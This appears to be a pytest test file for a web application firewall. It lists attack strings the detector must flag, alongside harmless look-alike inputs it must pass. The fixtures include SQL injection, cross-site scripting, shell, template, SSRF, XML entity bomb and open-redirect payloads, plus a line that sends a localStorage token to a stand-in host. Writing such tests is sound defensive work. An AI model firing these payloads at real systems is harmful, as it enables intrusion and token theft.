"""Values that say the same as known attacks in other words: other spellings of numbers, functions handed on, and their honest neighbours."""

from __future__ import annotations

import pytest

from bascule.waf.logic.engine import Logic
from bascule.waf.logic.facts import DECISIVE, facts_of
from bascule.waf.logic.facts.doctype import look
from bascule.waf.logic.facts.sqltokens import comparisons
from bascule.waf.logic.values import head_values


@pytest.mark.parametrize(
    "condition",
    [
        b"5 or 1e1=10",
        b"5 or 1.0=1",
        b"5 and 0x2=2",
        b"5 or 0b11=3",
        b"5 or 5!=6",
        b"5 or 7 not in (8)",
        b"5' or '3' <> '4",
    ],
)
def test_a_comparison_of_numbers_is_known_in_any_spelling(condition: bytes) -> None:
    assert comparisons(condition)[0]


@pytest.mark.parametrize(
    "condition", [b"5 or 2e0=3", b"5 or 5!=5", b"5 or 7 not in (7)", b"5 or 1e999=1", b"5 or 'a' <> 'b'"]
)
def test_numbers_that_differ_are_not_equal(condition: bytes) -> None:
    assert not comparisons(condition)[0]


ATTACKS = [
    # a statement goes on behind a number or a quote
    (b"41 or 0b1", "sql."),
    (b"3 and false", "sql."),
    (b"3 or not name is null", "sql."),
    (b"3 || user_id is not null", "sql."),
    (b"3 or id in (1,2)", "sql."),
    (b"3 or name like '%'", "sql."),
    (b"3 or (id)=(id)", "sql."),
    (b"3 and isnull(1/0)", "sql."),
    (b"HOPE and 8=(3)", "sql."),
    (b"hi' or a=a--", "sql."),
    (b"or 2 > 1", "sql."),
    (b"5;set global general_log=1", "sql."),
    (b"5; show tables", "sql."),
    (b"5';lock tables users write#", "sql."),
    (b"5;with a as (select 1) select * from a", "sql."),
    (b"')) or sleep(__TIME__)='", "sql."),
    (b"3',2)#", "sql."),
    (b"3', isadmin=1-- -", "sql."),
    (b"3'), ('4", "sql."),
    (b"*,password from users--", "sql."),
    (b"1))--", "sql."),
    (b"aa'<<'b", "sql."),
    (b"abc' |+'1", "sql."),
    (b"asd'|column!='", "sql."),
    (b"aa'^0+0+1-1=(0)-- -", "sql."),
    (b"char(65,66,67)", "sql."),
    (b"9 union select name as x from users", "sql."),
    (b"9 union select a.b from c", "sql."),
    (b"9 union select!1", "sql."),
    (b"9;replace into a values(1)", "sql."),
    (b"9;select user", "sql."),
    (b"@@version--", "sql."),
    # a dialog is handed to what calls it
    (b"[1].find(alert)", "js."),
    (b"'x'.replace(/x/g,confirm)", "js."),
    (b"a=alert,a(1)", "js."),
    (b"[,alert][1](1)", "js."),
    (b"({toString:alert})+''", "js."),
    (b"document.body.onclick=alert;click()", "js."),
    (b"alert(!!1)", "js."),
    (b"Reflect.apply(alert,null,[1])", "js."),
    # script comes from where others write
    (b"onmessage=(e)=>eval(e.data)", "js."),
    (b"eval(0x258da033.toString(30))", "js."),
    (b"eval(v+l+a+b)", "js."),
    (b"location=location.hash.slice(1)", "js."),
    (b"document.body.innerHTML = localStorage.getItem('a')", "js."),
    (b"new Image().src='//q.x.example/?'+localStorage.token", "js."),
    (b"a);id;", "shell."),
    (b"%x('ls -al /')", "code."),
    (b"{{request.GET.q|safe}}", "template."),
    (b"{% include request.GET.template %}", "template."),
    (b"query @aa@aa@aa@aa@aa@aa@aa@aa@aa@aa{id}", "nosql."),
    (b"http://1113982867/", "ssrf."),
    (b"https://x.example#.shop.example.com", "http."),
]  # fmt: skip


@pytest.mark.parametrize(("value", "language"), ATTACKS)
def test_what_acts_is_decided(value: bytes, language: str) -> None:
    assert [name for name in facts_of(value, "query") if name.startswith(language) and name in DECISIVE]


HONEST = [
    b"2 and 2 = 4",
    b"3 or more in stock",
    b"2 or more (large) rooms",
    b"5 and a half",
    b"chair; table lamp",
    b"2; table lamp",
    b"shoes; show all",
    b"price; check table sizes",
    b"name;id;type",
    b"1) -- first the tables",
    b"1) first, 2) second -- then go",
    b"5 or null",
    b"O'Neil, 5 #1",
    b"rock'n'roll",
    b"rock'-n-'roll",
    b"Guns n' roses",
    b"players' & coaches #1",
    b"'java' / C#",
    b"6'2\" - 6'4\"",
    b"'and'",
    b"cast and crew from Berlin --",
    b"message from Bob--",
    b"char(10)",
    b"varchar(10,2)",
    b"x or y = z",
    b"set global warming goals",
    b"the union will select members as delegates from each town",
    b"9; select user friendly names",
    b"9;begin now",
    b"alerts.push(alert)",
    b"container.appendChild(alert)",
    b"alert: find (the) prompt, and confirm it",
    b"prompt([message])",
    b"set: alert, get: nothing",
    b"onboarding = confirm later",
    b"then confirm; a (signed) form",
    b"location = name of the place",
    b"eval(x)",
    b"{{ request.title }}",
    b"@ann @bob @carl @dora @eve @finn @gus @hal @ida @jo @kim hello",
    b"a@b.example, c@d.example, e@f.example",
    b"tel:01113982867",
    b"https://shop.example.com/#.5",
    b"https://shop.example.com/a#b.c",
    b"id); the rest",
]  # fmt: skip


@pytest.mark.parametrize("value", HONEST)
def test_its_neighbours_decide_nothing(value: bytes) -> None:
    assert facts_of(value, "query").isdisjoint(DECISIVE)


def test_a_line_of_a_growing_document_type_acts_by_itself() -> None:
    assert "xml.entity_bomb" in look(b'<!ENTITY ha2 "&ha1;&ha1;">')
    assert "xml.entity_bomb" not in look(b'<!ENTITY law "Sons &amp; Co. &lt;x&gt;">')
    assert "xml.entity_bomb" not in look(b'<!DOCTYPE a [<!ENTITY b "c"><!ENTITY d "&b; &b;">]><a>&d;</a>')


@pytest.mark.parametrize(
    "value", ["%5C%5Cq.x.example", "%20//q.x.example", "%09//q.x.example/a", "/%5Cq.x.example", "//q.x.example"]
)
def test_a_field_that_says_where_to_go_leads_elsewhere_in_all_spellings_of_browsers(value: str) -> None:
    standard = Logic.load("standard")
    assert standard.judge(head_values(f"/login?next={value}".encode(), []))
    if value == "//q.x.example":
        assert not standard.judge(head_values(f"/list?picture={value}".encode(), []))


@pytest.mark.parametrize("target", [b"/%5Cq.x.example", b"/%5C/q.x.example/a", b"/%09/q.x.example"])
def test_a_path_that_browsers_take_for_another_host(target: bytes) -> None:
    assert Logic.load("standard").judge(head_values(target, []))


@pytest.mark.parametrize("target", [b"/q.x.example", b"/a/%5Cq.x.example", b"/%5Creadme"])
def test_a_path_that_stays_here(target: bytes) -> None:
    assert not Logic.load("standard").judge(head_values(target, []))
